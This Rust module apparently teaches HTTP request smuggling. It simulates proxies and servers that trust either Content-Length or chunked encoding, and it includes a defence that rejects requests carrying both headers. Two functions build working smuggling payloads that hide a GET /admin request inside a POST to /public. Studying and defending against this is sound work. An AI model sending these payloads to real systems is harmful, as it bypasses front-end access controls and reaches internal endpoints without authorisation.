//! Bytes, not messages: a request is smuggled.
//!
//! With the length in front, the last chunk comes at once, so for the server the body is over after
//! five bytes; the length covers these and the whole second request. With the chunks in front, the
//! second request is the content of one chunk, and the length covers only the line with the chunk's
//! size: for the server the body is that line, and the second request begins behind it. The size
//! has to be right to the byte, so it is computed and not counted by hand.
//!
//! The defence looks at neither body. It refuses the head in which the two fields disagree, since
//! no answer to "which of them is right?" helps as long as another program may have another answer.

/// A reader of requests on one connection.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Believes {
    Length,
    Chunks,
}

/// What a reader sees: the targets of the requests, and how many bytes are left behind the last.
#[derive(Debug, PartialEq, Eq)]
pub struct Seen {
    pub targets: Vec<String>,
    pub left: usize,
}

/// Reads requests until no further one is whole.
pub fn read(mut wire: &[u8], believes: Believes) -> Seen {
    let mut targets = Vec::new();
    while let Some((head, rest)) = split_head(wire) {
        let Some(target) = head.split(' ').nth(1) else { break };
        let Some(length) = body(head, rest, believes) else { break };
        targets.push(target.to_owned());
        wire = &rest[length..];
    }
    Seen { targets, left: wire.len() }
}

/// The head at the start, without its empty line, and what follows.
fn split_head(wire: &[u8]) -> Option<(&str, &[u8])> {
    let end = wire.windows(4).position(|four| four == b"\r\n\r\n")?;
    Some((str::from_utf8(&wire[..end]).ok()?, &wire[end + 4..]))
}

fn field<'a>(head: &'a str, name: &str) -> Option<&'a str> {
    let lines = head.lines().skip(1).filter_map(|line| line.split_once(':'));
    let mut values = lines.filter(|(known, _)| known.eq_ignore_ascii_case(name));
    values.next().map(|(_, value)| value.trim())
}

/// How many bytes the body has, if it has come whole.
fn body(head: &str, rest: &[u8], believes: Believes) -> Option<usize> {
    let length = field(head, "Content-Length");
    let has_chunks = field(head, "Transfer-Encoding") == Some("chunked");
    if has_chunks && (length.is_none() || believes == Believes::Chunks) {
        return chunks(rest);
    }
    let length = length.map_or(Ok(0), str::parse).ok()?;
    (length <= rest.len()).then_some(length)
}

/// How many bytes a body in chunks has.
fn chunks(rest: &[u8]) -> Option<usize> {
    let mut at = 0;
    loop {
        let line = rest[at..].windows(2).position(|two| two == b"\r\n")?;
        let size = str::from_utf8(&rest[at..at + line]).ok()?;
        let size = usize::from_str_radix(size, 16).ok()?;
        at += line + 2 + size + 2;
        if at > rest.len() {
            return None;
        }
        if size == 0 {
            return Some(at);
        }
    }
}

const ADMIN: &str = "GET /admin HTTP/1.1\r\nHost: inside\r\n\r\n";

/// A request for `/public` with both fields, and this body.
fn public(length: usize, body: &str) -> Vec<u8> {
    format!(
        "POST /public HTTP/1.1\r\nHost: outside\r\nContent-Length: {length}\r\n\
         Transfer-Encoding: chunked\r\n\r\n{body}"
    )
    .into_bytes()
}

/// For a proxy that believes the length, before a server that believes the chunks.
pub fn length_in_front() -> Vec<u8> {
    let body = format!("0\r\n\r\n{ADMIN}");
    public(body.len(), &body)
}

/// For a proxy that believes the chunks, before a server that believes the length.
pub fn chunks_in_front() -> Vec<u8> {
    let size = format!("{:x}\r\n", ADMIN.len());
    public(size.len(), &format!("{size}{ADMIN}\r\n0\r\n\r\n"))
}

/// Whether the first head has to be refused.
pub fn is_ambiguous(wire: &[u8]) -> bool {
    split_head(wire).is_some_and(|(head, _)| {
        field(head, "Content-Length").is_some() && field(head, "Transfer-Encoding").is_some()
    })
}
